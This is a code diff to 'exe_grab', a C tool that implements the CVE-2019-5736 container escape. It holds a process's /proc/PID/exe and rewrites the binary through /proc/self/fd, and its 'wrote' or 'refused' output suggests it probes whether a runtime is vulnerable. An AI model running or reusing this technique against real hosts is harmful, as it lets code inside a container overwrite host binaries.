@@ -1,10 +1,13 @@
 /* exe_grab: the CVE-2019-5736 attack, from inside a container. Finds a
- * process whose argv[0] ends in NAME, opens its /proc/PID/exe (O_PATH) while
+ * process whose argv[0] ends in NAME (or is NAME, when NAME holds a '/'), opens its /proc/PID/exe (O_PATH) while
  * it runs, says "grabbed PID", waits for the process to be gone (or to have
  * exec'd something else), then reopens the grabbed file for writing through
  * /proc/self/fd and writes MARK at its start.
  *
- *   exe_grab NAME MARK      prints "wrote" (exit 0) or "refused: ERRNO" (exit 1)
+ *   exe_grab NAME MARK [TRIES]   prints "wrote" (exit 0) or "refused: ERRNO" (exit 1)
+ *
+ * TRIES (default 20000) is how many times /proc is searched, about a
+ * millisecond apart, before "no process named NAME could be grabbed".
  *
  * Static, so it runs in any container root. Gives up after 20 s.
  */
@@ -28,6 +31,7 @@ static int matches(const char *pid, const char *name) {
     close(fd);
     if (n <= 0) return 0;
     buf[n] = '\0';
+    if (strchr(name, '/')) return strcmp(buf, name) == 0;
     const char *base = strrchr(buf, '/');
     base = base ? base + 1 : buf;
     return strcmp(base, name) == 0;
@@ -39,8 +43,8 @@ static void nap(void) {
 }
 
 int main(int argc, char **argv) {
-    if (argc != 3) {
-        fprintf(stderr, "usage: exe_grab NAME MARK\n");
+    if (argc != 3 && argc != 4) {
+        fprintf(stderr, "usage: exe_grab NAME MARK [TRIES]\n");
         return 2;
     }
     setvbuf(stdout, NULL, _IONBF, 0);
@@ -48,7 +52,8 @@ int main(int argc, char **argv) {
     snprintf(self, sizeof self, "%d", getpid());
     int fd = -1, target = 0;
     char first[4096] = "";
-    for (int round = 0; round < 20000 && fd < 0; ++round) {
+    int tries = argc == 4 ? atoi(argv[3]) : 20000;
+    for (int round = 0; round < tries && fd < 0; ++round) {
         DIR *d = opendir("/proc");
         if (!d) return perror("/proc"), 2;
         struct dirent *e;
